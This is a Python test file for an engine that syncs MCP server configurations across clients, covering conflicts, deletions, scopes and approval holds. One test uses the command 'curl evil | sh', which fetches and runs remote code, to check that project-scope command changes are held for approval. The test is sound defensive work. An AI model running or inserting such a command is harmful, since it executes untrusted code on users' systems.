"""Rules of the pure sync engine, one behaviour per test."""

from __future__ import annotations

import itertools
from typing import Any

import pytest

from actors.sync_engine import (
    Conflict,
    ConflictRule,
    Direction,
    Drift,
    HoldDeletion,
    Lossy,
    NeedsApproval,
    Observation,
    Policy,
    SyncEngine,
    Write,
)
from events.errors import ActorError

GH = ("mcp", "github")
FS = ("mcp", "fs")
_scans = itertools.count()


def engine(clients: tuple[str, ...] = ("a", "b", "c"), **kw: Any) -> SyncEngine:
    return SyncEngine(Policy(clients=clients, **kw))


def scan(e: SyncEngine, client: str, entities: dict[Any, dict[str, Any]], *, complete=True):
    return e.observe(Observation(client, f"s{next(_scans)}", complete, entities))


def start(e: SyncEngine, entities: dict[Any, dict[str, Any]]) -> None:
    """Every client starts with the same entities, all in sync."""
    for client in e.policy.clients:
        scan(e, client, entities)
    assert e.plan().decisions == ()


def writes(e: SyncEngine) -> set[tuple[str, Any, Any]]:
    return {(w.client, w.key, _freeze(w.value)) for w in e.plan().writes}


def _freeze(value: dict[str, Any] | None) -> Any:
    return None if value is None else repr(sorted(value.items()))


def land(e: SyncEngine) -> None:
    for w in e.plan().writes:
        e.confirm_write(w.client, w.key, w.value, scope=w.scope)


V1 = {"command": "npx", "args": ["gh"]}
V2 = {"command": "npx", "args": ["gh", "--v2"]}
V3 = {"command": "npx", "args": ["gh", "--v3"]}


def test_single_change_propagates_to_every_other_client() -> None:
    """One client's change is written to all other participating clients."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    assert writes(e) == {("b", GH, _freeze(V2)), ("c", GH, _freeze(V2))}


def test_confirmed_write_echo_is_no_change() -> None:
    """Observing exactly what the engine wrote produces no further writes."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    land(e)
    for client in ("a", "b", "c"):
        assert scan(e, client, {GH: V2}) == []
    assert e.plan().decisions == ()


def test_same_change_on_two_clients_is_no_conflict() -> None:
    """Two clients changing to the same value is a false conflict, auto-resolved."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    scan(e, "b", {GH: V2})
    assert writes(e) == {("c", GH, _freeze(V2))}


def test_different_changes_conflict_and_write_nothing() -> None:
    """Two clients changing to different values yields a Conflict and no writes."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    scan(e, "b", {GH: V3})
    plan = e.plan()
    assert plan.writes == ()
    (conflict,) = plan.decisions
    assert isinstance(conflict, Conflict)
    assert set(conflict.sides) == {"a", "b"}
    assert conflict.base is not None


def test_change_while_write_pending_conflicts_with_it() -> None:
    """A user edit on a client whose write has not landed conflicts with the written value."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})  # write to b pending
    scan(e, "b", {GH: V3})  # b edited before the write landed (compare-and-swap failed)
    (conflict,) = e.plan().decisions
    assert isinstance(conflict, Conflict)
    assert set(conflict.sides) == {"a", "b"}


def test_source_priority_rule_picks_the_earlier_client() -> None:
    """With source priority, the client earlier in `priority` wins a conflict."""
    e = engine(conflict_rule=ConflictRule.SOURCE_PRIORITY, priority=("b", "a"))
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    scan(e, "b", {GH: V3})
    assert writes(e) == {("a", GH, _freeze(V3)), ("c", GH, _freeze(V3))}


def test_newest_rule_picks_the_later_observation() -> None:
    """With the newest rule, the later observed change wins a conflict."""
    e = engine(conflict_rule=ConflictRule.NEWEST)
    start(e, {GH: V1})
    scan(e, "b", {GH: V3})
    scan(e, "a", {GH: V2})
    assert writes(e) == {("b", GH, _freeze(V2)), ("c", GH, _freeze(V2))}


def test_modify_beats_delete() -> None:
    """A deletion in one client loses to a modification in another."""
    e = engine()
    start(e, {GH: V1, FS: V1})
    scan(e, "b", {GH: V2, FS: V1})
    scan(e, "a", {FS: V1})
    scan(e, "a", {FS: V1})
    assert writes(e) == {("a", GH, _freeze(V2)), ("c", GH, _freeze(V2))}


def test_deletion_needs_two_complete_scans() -> None:
    """An entity missing from one complete scan is only suspected; the second deletes it."""
    e = engine()
    start(e, {GH: V1, FS: V1})
    scan(e, "a", {FS: V1})
    assert writes(e) == set()
    scan(e, "a", {FS: V1})
    assert writes(e) == {("b", GH, None), ("c", GH, None)}


def test_same_scan_twice_does_not_confirm_a_deletion() -> None:
    """A duplicated watcher delivery (same scan id) is not a second scan."""
    e = engine()
    start(e, {GH: V1, FS: V1})
    obs = Observation("a", "dup", True, {FS: V1})
    e.observe(obs)
    e.observe(obs)
    assert writes(e) == set()


def test_incomplete_scans_never_delete() -> None:
    """Entities missing from incomplete scans are unknown, not deleted."""
    e = engine()
    start(e, {GH: V1, FS: V1})
    for _ in range(3):
        scan(e, "a", {}, complete=False)
    assert e.plan().decisions == ()


def test_reappearing_entity_cancels_a_suspected_deletion() -> None:
    """Seeing the entity again between two scans resets the two-scan count."""
    e = engine()
    start(e, {GH: V1, FS: V1})
    scan(e, "a", {FS: V1})
    scan(e, "a", {GH: V1, FS: V1}, complete=False)
    scan(e, "a", {FS: V1})
    assert writes(e) == set()


def test_too_many_deletions_are_all_held_until_approved() -> None:
    """More than max_deletions deletions from one client are held; approval releases them."""
    e = engine(max_deletions=2)
    keys = [("mcp", f"s{i}") for i in range(3)]
    start(e, dict.fromkeys(keys, V1))
    scan(e, "a", {})
    scan(e, "a", {})
    plan = e.plan()
    assert plan.writes == ()
    assert {d.key for d in plan.decisions if isinstance(d, HoldDeletion)} == set(keys)
    released = e.approve_deletions("a")
    assert {(w.client, w.key, w.value) for w in released} == {
        (c, k, None) for c in ("b", "c") for k in keys
    }


def test_deletions_within_the_limit_propagate() -> None:
    """Up to max_deletions deletions from one client propagate without approval."""
    e = engine(max_deletions=3)
    keys = [("mcp", f"s{i}") for i in range(3)]
    start(e, dict.fromkeys(keys, V1))
    scan(e, "a", {})
    scan(e, "a", {})
    assert len(e.plan().writes) == 6


def test_project_scope_command_change_needs_approval() -> None:
    """A project-scope MCP server with a new command waits for approval, then propagates."""
    e = engine()
    start(e, {})
    proj = {"command": "curl evil | sh", "scope": "project"}
    scan(e, "a", {GH: proj})
    (decision,) = e.plan().decisions
    assert isinstance(decision, NeedsApproval)
    assert decision.client == "a"
    out = e.resolve(GH, take="a")
    assert {(w.client, w.scope) for w in out} == {("b", "project"), ("c", "project")}


def test_project_scope_is_never_promoted_into_user_scope() -> None:
    """A project value syncs into project scope only; user-scope copies stay untouched."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: {**V1, "scope": "project"}})
    scan(e, "a", {GH: {**V1, "scope": "project"}})
    decisions = e.plan().decisions
    user_writes = [d for d in decisions if isinstance(d, Write) and d.value and d.scope == "user"]
    assert user_writes == []
    assert all(
        d.value is None or d.value["scope"] == "project" for d in decisions if isinstance(d, Write)
    )


def test_trust_fields_are_neither_compared_nor_propagated() -> None:
    """Changing only `trust` is no change; written values never carry `trust`."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: {**V1, "trust": True}})
    assert e.plan().decisions == ()
    scan(e, "a", {GH: {**V2, "trust": True}})
    assert all("trust" not in (w.value or {}) for w in e.plan().writes)
    assert len(e.plan().writes) == 2


def test_one_way_propagates_only_the_source() -> None:
    """One-way: the source's change propagates; a target's change does not."""
    e = engine(direction=Direction.ONE_WAY, source="a")
    start(e, {GH: V1})
    scan(e, "b", {GH: V3})
    assert not any(w.client in ("a", "c") for w in e.plan().writes)
    scan(e, "a", {GH: V2})
    assert ("c", GH, _freeze(V2)) in writes(e)


def test_one_way_drift_is_reported_and_overwritten_only_in_apply_mode() -> None:
    """One-way drift yields Drift; a Write follows in apply mode, not in observe mode."""
    for mode, expect_write in (("apply", True), ("observe", False)):
        e = engine(direction=Direction.ONE_WAY, source="a", mode=mode)
        start(e, {GH: V1})
        scan(e, "b", {GH: V3})
        decisions = e.plan().decisions
        assert Drift("b", GH) in decisions
        assert (Write("b", GH, V1) in decisions) is expect_write


def test_filters_skip_kinds_and_names() -> None:
    """Kinds, include and exclude patterns limit what is synced."""
    e = engine(kinds=frozenset({"mcp"}), include=("g*", "f*"), exclude=("fs",))
    start(e, {})
    scan(e, "a", {GH: V1, FS: V1, ("command", "gx"): V1})
    assert {w.key for w in e.plan().writes} == {GH}


def test_observe_mode_plans_but_forbids_apply() -> None:
    """In observe mode the plan lists writes but does not allow applying them."""
    e = engine(mode="observe")
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    plan = e.plan()
    assert plan.writes
    assert plan.apply_allowed is False


def test_aba_revert_to_base_unseen_loses_to_concurrent_change() -> None:
    """ABA (E3): a client edited and reverted before any scan is unchanged; the other wins."""
    e = engine()
    start(e, {GH: V1})
    # a: V1 -> V2 -> V1 with both watcher events dropped; b: V1 -> V3.
    scan(e, "a", {GH: V1})
    scan(e, "b", {GH: V3})
    assert writes(e) == {("a", GH, _freeze(V3)), ("c", GH, _freeze(V3))}


def test_aba_revert_after_a_seen_change_is_a_real_change() -> None:
    """ABA (E3): once a change was synced, reverting it conflicts with a concurrent edit."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    land(e)
    scan(e, "a", {GH: V1})
    scan(e, "b", {GH: V3})
    assert any(isinstance(d, Conflict) for d in e.plan().decisions)


def test_resolve_with_a_value_writes_it_everywhere_needed() -> None:
    """Resolving a conflict with a hand-made value writes it to every client."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    scan(e, "b", {GH: V3})
    out = e.resolve(GH, value={"command": "uvx"})
    assert {w.client for w in out} == {"a", "b", "c"}
    land(e)
    assert e.plan().decisions == ()


def test_resolve_take_closes_the_conflict() -> None:
    """Taking one side writes it to the others and leaves nothing pending after landing."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    scan(e, "b", {GH: V3})
    assert {w.client for w in e.resolve(GH, take="b")} == {"a", "c"}
    land(e)
    assert e.plan().decisions == ()


def test_resolve_needs_a_choice() -> None:
    """resolve without take or value is refused."""
    e = engine()
    start(e, {GH: V1})
    with pytest.raises(ActorError):
        e.resolve(GH)


def test_unscanned_clients_get_no_writes() -> None:
    """A client never completely scanned is not written to."""
    e = engine()
    scan(e, "a", {GH: V1})
    scan(e, "b", {}, complete=False)
    assert e.plan().writes == ()


def test_clients_outside_the_policy_are_ignored() -> None:
    """Observations of clients outside the policy change nothing."""
    e = engine()
    start(e, {GH: V1})
    assert scan(e, "zed", {GH: V2}) == []
    assert e.plan().decisions == ()


def test_lossy_translation_is_reported_with_the_write() -> None:
    """A write carrying a field the target cannot express comes with a Lossy decision."""
    e = engine(unsupported={"c": frozenset({"cwd"})})
    start(e, {GH: V1})
    scan(e, "a", {GH: {**V1, "cwd": "/x"}})
    assert Lossy("c", GH, "cwd", "c cannot express cwd") in e.plan().decisions


def test_plan_hash_tracks_decisions_and_bases() -> None:
    """The plan hash is stable for the same state and changes when the state does."""
    e = engine()
    start(e, {GH: V1})
    scan(e, "a", {GH: V2})
    first = e.plan().plan_hash
    assert e.plan().plan_hash == first
    land(e)
    assert e.plan().plan_hash != first


def test_one_way_needs_a_participating_source() -> None:
    """A one-way policy without a participating source is refused."""
    with pytest.raises(ActorError):
        engine(direction=Direction.ONE_WAY, source="zed")


def test_deletion_by_a_client_behind_the_agreement_loses_to_it() -> None:
    """A client deleting before the propagated value reached it: modify beats delete."""
    e = engine()
    start(e, {GH: V1, FS: V1})
    scan(e, "a", {GH: V2, FS: V1})  # writes of V2 to b and c pending
    scan(e, "c", {FS: V1})
    scan(e, "c", {FS: V1})
    assert writes(e) == {("b", GH, _freeze(V2)), ("c", GH, _freeze(V2))}


def test_a_base_equal_to_the_agreement_by_coincidence_is_not_in_step() -> None:
    """A conflict loser whose old value later becomes the agreement still gets modify-wins."""
    e = engine()
    start(e, {GH: V1, FS: V1})
    scan(e, "a", {GH: V2, FS: V1})
    scan(e, "b", {GH: V3, FS: V1})
    e.resolve(GH, take="a")  # b lost with V3; its write of V2 is pending
    e.confirm_write("c", GH, V2)
    scan(e, "c", {GH: V3, FS: V1})  # c then independently moves everyone to V3
    scan(e, "b", {FS: V1})  # b had deleted GH before any of that reached it
    scan(e, "b", {FS: V1})
    assert ("b", GH, _freeze(V3)) in writes(e)
    assert all(w.value is not None for w in e.plan().writes)
